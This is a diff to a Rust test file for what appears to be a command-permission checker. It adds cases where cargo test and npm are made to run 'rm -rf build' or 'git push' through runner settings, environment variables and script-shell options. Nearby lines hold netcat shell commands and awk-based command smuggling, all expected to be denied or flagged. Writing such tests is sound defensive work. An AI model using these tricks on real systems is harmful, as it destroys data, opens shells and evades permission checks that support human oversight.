@@ -68,6 +68,22 @@ fn commands_run_through_transports_variables_editors_and_sockets() {
         ("nc -c 'git push' x.example 1", Deny),
         ("ncat --sh-exec 'rm -rf build' -l 9000", Deny),
         ("awk -v cmd='git push' 'BEGIN { system(cmd) }'", Deny),
+        // cargo test is allowed: what its configuration makes it run is judged
+        (
+            "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf build\"'",
+            Deny,
+        ),
+        (
+            "cargo test --config target.'cfg(all())'.runner='[\"sh\",\"-c\",\"git push\"]'",
+            Deny,
+        ),
+        (
+            "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf build' cargo test",
+            Deny,
+        ),
+        ("RUSTC='git push' cargo test", Deny),
+        ("npm run test --script-shell='rm -rf build'", Deny),
+        ("cargo test --config 'profile.dev.opt-level=1'", Allow),
         ("ln -sf /tmp/hooks .git/hooks", Deny),
         // look-alikes
         ("git -c core.pager=cat log --oneline -5", Allow),
@@ -81,6 +97,8 @@ fn commands_run_through_transports_variables_editors_and_sockets() {
     // `ed` runs the commands on its input, `nc -e` a program fed by the network
     assert_eq!(check("ed -s x.txt <<< '!git push'"), (Ask, true));
     assert_eq!(check("nc -e /bin/sh x.example 1"), (Ask, true));
+    // a configuration file may set any runner
+    assert_eq!(check("cargo test --config ../evil.toml"), (Ask, true));
 }
 
 #[test]
